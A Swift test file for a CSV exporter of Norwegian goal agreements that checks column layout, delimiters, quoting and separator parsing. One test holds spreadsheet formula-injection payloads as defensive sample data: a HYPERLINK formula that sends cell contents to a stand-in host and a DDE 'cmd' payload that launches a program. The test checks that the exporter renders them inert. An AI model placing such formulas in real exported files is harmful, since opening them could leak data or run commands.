import AgreementExport
import AgreementKit
import CSV
import Foundation
import Testing

@Suite("CSV export: one record per goal row, read back with CSV.swift")
struct CSVExportTests {
    /// Reads CSV bytes as a spreadsheet would: the reader drops the byte order mark.
    private func read(_ data: Data, delimiter: Unicode.Scalar = ";") throws -> [[String]] {
        let reader = try CSVReader(stream: InputStream(data: data), delimiter: delimiter)
        var rows: [[String]] = []
        while let row = reader.next() { rows.append(row) }
        if let error = reader.error { throw error }
        return rows
    }

    @Test func theHoeggenRowsComeBackHeaderFirstWithBOMAndSemicolons() throws {
        let agreement = try ExportFixtures.hoeggen()
        let document = try AgreementExporter.export(agreement, as: .csv, isPublic: false, words: ExportFixtures.words)
        #expect(Array(document.data.prefix(3)) == [0xEF, 0xBB, 0xBF])
        #expect(!document.containsPersonalGoals)
        let firstLine = document.text.dropFirst().prefix { $0 != "\r\n" && $0 != "\n" }
        #expect(firstLine == "Del;Målområde;Resultatmål;Målnummer;Mål for enheten;Indikator;Tiltak;Støtte;Antall logg;Gjennomførte tiltak er;Måloppnåelse for enheten er;Målte indikatorer;Handlingsplan")
        let rows = try read(document.data)
        #expect(rows.count == 1 + 24)
        #expect(rows.allSatisfy { $0.count == 13 })
        let expected = agreement.goalAreas.flatMap { area in area.rows.map { (area.section.number, area.label, $0) } }
        for (record, (section, label, row)) in zip(rows.dropFirst(), expected) {
            #expect(record[0] == section)
            #expect(record[1] == label)
            #expect(record[2] == row.resultGoal)
            #expect(record[3] == row.targetNumber)
            #expect(record[4] == row.target)
            #expect(record[5] == row.indicator)
            // An indicator among the measures keeps its label; headings and instructions stand as they are.
            #expect(record[6] == row.measures.map { $0.kind == .indicator ? "Indikator: " + $0.text : $0.text }.joined(separator: " / "))
            #expect(record[7] == row.support.map(\.text).joined(separator: " / "))
            #expect(record[8] == String(row.log.count))
        }
        #expect(rows[1][9] == "Ut over avtalen" && rows[1][10] == "I tråd med avtalen")
        #expect(rows[2][9] == "I tråd med avtalen" && rows[2][10] == "Mindre enn avtalen")
        #expect(rows[1][8] == "2")
        #expect(rows[4][9] == "" && rows[4][10] == "")
        #expect(rows.last?[0] == "3.2")
    }

    @Test func otherSeparatorsQuoteWhatTheyMust() throws {
        let agreement = ExportFixtures.hostile()
        for separator in [CSVSeparator.comma, .tab, .semicolon] {
            let data = try AgreementExporter.export(agreement, as: .csv, isPublic: true, separator: separator, words: ExportFixtures.words).data
            let rows = try read(data, delimiter: separator.scalar)
            #expect(rows.count == 2)
            #expect(rows[1][4] == SafeText.inert(ExportFixtures.hostileText))
            #expect(rows[1][6] == "Dugnad / - ikke punkt\n| ikke celle |")
        }
        let text = try AgreementExporter.export(agreement, as: .csv, isPublic: true, separator: .tab, words: ExportFixtures.words).text
        #expect(text.contains("Del\tMålområde\t"))
        #expect(!text.contains("\u{1B}"))
    }

    @Test func cellsThatASpreadsheetWouldRunAsFormulasAreMadeText() throws {
        var agreement = ExportFixtures.secretive()
        let formulas = ["=HYPERLINK(\"http://x.test/?\"&A1;\"klikk\")", "=cmd|' /C calc'!A0", "+SUM(1;2)", "-2+3", "@SUM(A1:A2)",
                        "\tTAB", "\r=1+1"]
        agreement.goalAreas[0].rows[0].target = formulas[0]
        agreement.goalAreas[0].rows[0].resultGoal = formulas[1]
        agreement.goalAreas[0].rows[0].indicator = formulas[2]
        agreement.goalAreas[0].rows[0].measures = [Measure(id: "m-1", text: formulas[3])]
        agreement.goalAreas[0].rows[0].support = [SupportItem(id: "s-1", text: formulas[4])]
        agreement.goalAreas[0].title = formulas[5]
        agreement.goalAreas[0].number = ""
        agreement.goalAreas[0].rows[0].targetNumber = "-3,5"
        agreement.goalAreas[0].rows[0].log[0].text = formulas[6]
        let rows = try read(try AgreementExporter.export(agreement, as: .csv, isPublic: true, words: ExportFixtures.words).data)
        #expect(rows[1][4] == "'" + formulas[0])
        #expect(rows[1][2] == "'" + formulas[1])
        #expect(rows[1][5] == "'" + formulas[2])
        #expect(rows[1][6] == "'" + formulas[3])
        #expect(rows[1][7] == "'" + formulas[4])
        #expect(rows[1][1] == "'" + formulas[5])
        #expect(rows[1][3] == "-3,5", "a number stays a number")
        let log = try read(try LogExport.render(LogReport(agreement), of: agreement, as: .csv, words: ExportFixtures.words))
        #expect(log[1][4] == "'\n=1+1", "a carriage return is a formula trigger too (then made a plain newline)")
        #expect(log[1][1] == "'" + formulas[5])
    }

    @Test func numbersAndOrdinaryTextAreLeftAlone() throws {
        var agreement = ExportFixtures.secretive()
        agreement.goalAreas[0].rows[0].targetNumber = "-3"
        agreement.goalAreas[0].rows[0].indicator = "-3,5"
        agreement.goalAreas[0].rows[0].target = "+47"
        agreement.goalAreas[0].rows[0].resultGoal = "-0.25"
        agreement.goalAreas[0].rows[0].measures = [Measure(id: "m-1", text: "Tiltak - med strek"), Measure(id: "m-2", text: "1 = 1 @ 2")]
        agreement.goalAreas[0].rows[0].support = [SupportItem(id: "s-1", text: "- punkt"), SupportItem(id: "s-2", text: "-3 %")]
        let rows = try read(try AgreementExporter.export(agreement, as: .csv, isPublic: true, words: ExportFixtures.words).data)
        #expect(Array(rows[1][2...5]) == ["-0.25", "-3", "+47", "-3,5"])
        #expect(rows[1][6] == "Tiltak - med strek / 1 = 1 @ 2")
        #expect(rows[1][7] == "'- punkt / -3 %")
    }

    @Test func separatorArguments() {
        #expect(CSVSeparator(argument: ";") == .semicolon)
        #expect(CSVSeparator(argument: ",") == .comma)
        #expect(CSVSeparator(argument: "\\t") == .tab)
        #expect(CSVSeparator(argument: "tab") == .tab)
        #expect(CSVSeparator(argument: "\t") == .tab)
        #expect(CSVSeparator(argument: "|")?.character == "|")
        for bad in ["", ";;", "\"", "\n", "a", "7"] { #expect(CSVSeparator(argument: bad) == nil, "\(bad)") }
    }
}

extension CSVSeparator {
    var scalar: Unicode.Scalar { character.unicodeScalars.first ?? ";" }
}
